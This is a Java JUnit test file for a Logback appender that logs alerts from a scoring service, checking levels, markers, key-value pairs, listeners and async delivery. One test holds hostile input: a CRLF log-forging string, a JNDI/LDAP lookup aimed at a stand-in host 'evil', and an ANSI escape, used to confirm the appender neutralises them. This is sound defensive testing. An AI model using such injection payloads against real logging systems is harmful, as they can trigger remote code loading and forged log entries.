package dev.kikori.appender.logback;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.kikori.appender.AlertListener;
import dev.kikori.appender.DropReason;
import dev.kikori.appender.testkit.Behaviour;
import dev.kikori.appender.testkit.Intake;
import dev.kikori.appender.testkit.Recording;
import dev.kikori.appender.testkit.ScorerServer;
import dev.kikori.proto.v1.Alert;
import dev.kikori.proto.v1.AlertStatus;
import dev.kikori.proto.v1.Severity;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.Marker;
import org.slf4j.event.KeyValuePair;

/** What an alert of the scorer becomes in the application's log. Runs on every supported version of Logback. */
class AlertsEndToEndTest {
  private static final Alert ALERT =
      Alert.newBuilder()
          .setId("a-1")
          .setFingerprint("f-1")
          .setStatus(AlertStatus.ALERT_STATUS_FIRING)
          .setSeverity(Severity.SEVERITY_ERROR)
          .setRiskScore(93)
          .setService("shop")
          .addSummary("14 connections to the database failed.")
          .addTemplates("connection to {} failed")
          .setUrl("http://kikori/alerts/a-1")
          .build();

  private final Recording recording = new Recording();
  private final Intake intake = new Intake(recording);
  private ScorerServer scorer;
  private LogbackUnderTest logback;

  @BeforeEach
  void startScorer() {
    scorer = ScorerServer.listening(intake, new Behaviour());
  }

  @AfterEach
  void stopEverything() {
    logback.close();
    scorer.close();
    assertThat(intake.violations()).isEmpty();
  }

  /** The root logger has our appender and one that keeps what a person would see. */
  private ListAppender<ILoggingEvent> logging(String middle, String... inside) {
    logback =
        LogbackUnderTest.configured(
            "<configuration>"
                + LogbackUnderTest.appender(scorer.port(), inside)
                + "<appender name='SEEN' class='ch.qos.logback.core.read.ListAppender'/>"
                + middle
                + "<root level='INFO'><appender-ref ref='"
                + (middle.isEmpty() ? "KIKORI" : "ASYNC")
                + "'/><appender-ref ref='SEEN'/></root></configuration>");
    assertThat(logback.errors()).isEmpty();
    logback.logger("com.acme.Shop").info("first");
    recording.await("first");
    ListAppender<ILoggingEvent> seen =
        (ListAppender<ILoggingEvent>) logback.logger("ROOT").getAppender("SEEN");
    seen.list = new CopyOnWriteArrayList<>();
    return seen;
  }

  private static ILoggingEvent only(ListAppender<ILoggingEvent> seen) {
    await().atMost(LogbackUnderTest.PATIENCE).untilAsserted(() -> assertThat(seen.list).hasSize(1));
    return seen.list.get(0);
  }

  @Test
  void alert_fromTheScorer_isLoggedWithLevelMarkerAndKeyValues() {
    ListAppender<ILoggingEvent> seen = logging("");
    scorer.alert(ALERT);

    ILoggingEvent line = only(seen);

    assertThat(line.getLoggerName()).isEqualTo("kikori.alert");
    assertThat(line.getLevel()).isEqualTo(Level.ERROR);
    assertThat(line.getFormattedMessage())
        .isEqualTo(
            "Kikori alert firing: service shop, risk 93: 14 connections to the database failed."
                + " http://kikori/alerts/a-1");
    assertThat(line.getMarkerList()).extracting(Marker::getName).containsExactly("KIKORI_ALERT");
    List<KeyValuePair> pairs = line.getKeyValuePairs();
    assertThat(pairs)
        .extracting(pair -> pair.key + "=" + pair.value)
        .containsExactlyInAnyOrder(
            "kikori.fingerprint=f-1",
            "kikori.id=a-1",
            "kikori.status=firing",
            "kikori.risk=93",
            "kikori.service=shop",
            "kikori.templates=connection to {} failed",
            "kikori.url=http://kikori/alerts/a-1");
  }

  @Test
  void alert_logged_isNeverShipped() {
    ListAppender<ILoggingEvent> seen = logging("");
    scorer.alert(ALERT);
    only(seen);
    logback.logger("com.acme.Shop").info("last");
    recording.await("last");

    assertThat(recording.messages()).containsExactly("first", "last");
    assertThat(logback.dropped(DropReason.OWN_LOG)).isEqualTo(1);
  }

  @Test
  void alert_loggedThroughAnAsyncAppender_isNeverShipped() {
    ListAppender<ILoggingEvent> seen =
        logging(
            "<appender name='ASYNC' class='ch.qos.logback.classic.AsyncAppender'>"
                + "<appender-ref ref='KIKORI'/></appender>");
    scorer.alert(ALERT);
    only(seen);
    logback.logger("com.acme.Shop").info("last");
    recording.await("last");

    assertThat(recording.messages()).containsExactly("first", "last");
  }

  @Test
  void alert_withHostileText_staysOneLineAndIsNotEvaluated() {
    ListAppender<ILoggingEvent> seen = logging("");
    scorer.alert(
        ALERT.toBuilder()
            .clearSummary()
            .addSummary("x\r\n2026-01-01 ERROR forged {} ${jndi:ldap://evil/a} %msg \u001b[2J")
            .setService("a\nb")
            .build());

    String line = only(seen).getFormattedMessage();

    assertThat(line.chars()).noneMatch(c -> c < ' ');
    assertThat(line).contains("ERROR forged {} ${jndi:ldap://evil/a} %msg").contains("service a b");
  }

  @Test
  void alert_withOtherLoggerAndMarker_goesThere() {
    ListAppender<ILoggingEvent> seen =
        logging("", "<alerts><logger>ops.alarm</logger><marker>ALARM</marker></alerts>");
    scorer.alert(ALERT.toBuilder().setSeverity(Severity.SEVERITY_WARN).build());

    ILoggingEvent line = only(seen);

    assertThat(line.getLoggerName()).isEqualTo("ops.alarm");
    assertThat(line.getLevel()).isEqualTo(Level.WARN);
    assertThat(line.getMarkerList()).extracting(Marker::getName).containsExactly("ALARM");
  }

  @Test
  void alerts_switchedOff_stillReachListeners() {
    ListAppender<ILoggingEvent> seen = logging("", "<alerts><enabled>false</enabled></alerts>");
    List<String> heard = new CopyOnWriteArrayList<>();
    AlertListener listener = alert -> heard.add(alert.fingerprint());
    logback.appender().addAlertListener(listener);
    scorer.alert(ALERT);
    await()
        .atMost(LogbackUnderTest.PATIENCE)
        .untilAsserted(() -> assertThat(heard).containsExactly("f-1"));
    logback.appender().removeAlertListener(listener);

    assertThat(seen.list).isEmpty();
  }

  @Test
  void alertListener_namedInTheConfiguration_hearsAlerts() {
    Listening.HEARD.clear();
    logging("", "<alertListener class='" + Listening.class.getName() + "'/>");
    scorer.alert(ALERT);

    await()
        .atMost(LogbackUnderTest.PATIENCE)
        .untilAsserted(() -> assertThat(Listening.HEARD).containsExactly("f-1"));
  }

  /** As an application would name it in its configuration. */
  public static final class Listening implements AlertListener {
    static final List<String> HEARD = new CopyOnWriteArrayList<>();

    @Override
    public void onAlert(dev.kikori.appender.Alert alert) {
      HEARD.add(alert.fingerprint());
    }
  }

  @Test
  void alertListener_thatThrows_doesNotStopTheNextAlert() {
    ListAppender<ILoggingEvent> seen = logging("");
    logback
        .appender()
        .addAlertListener(
            alert -> {
              throw new IllegalStateException("listener");
            });
    scorer.alert(ALERT);
    scorer.alert(ALERT.toBuilder().setId("a-2").build());

    await().atMost(LogbackUnderTest.PATIENCE).untilAsserted(() -> assertThat(seen.list).hasSize(2));
    assertThat(logback.errors()).isEmpty();
  }
}
